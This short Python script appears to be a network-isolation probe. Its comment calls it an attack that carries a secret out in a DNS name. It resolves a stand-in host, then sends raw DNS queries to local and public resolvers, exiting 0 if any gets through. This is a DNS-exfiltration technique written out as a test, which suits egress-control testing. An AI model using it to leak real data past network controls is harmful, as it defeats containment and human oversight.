# attack: carry a secret out in a name to be looked up
# outside: not shown: it would ask a server
import socket, struct
print("tried", flush=True)
try:
    socket.getaddrinfo("secret.example.com", 80)
    raise SystemExit(0)
except OSError as error:
    print(error)
question = struct.pack(">6H", 1, 256, 1, 0, 0, 0) + b"\x06secret\x07example\x03com\0" + struct.pack(">2H", 1, 1)
for server in ["127.0.0.53", "1.1.1.1", "8.8.8.8", "2606:4700::1111"]:
    try:
        asking = socket.socket(socket.AF_INET6 if ":" in server else socket.AF_INET, socket.SOCK_DGRAM)
        asking.settimeout(0.3)
        asking.connect((server, 53))
        asking.send(question)
        asking.recv(512)
        raise SystemExit(0)
    except OSError as error:
        print(error)
raise SystemExit(1)
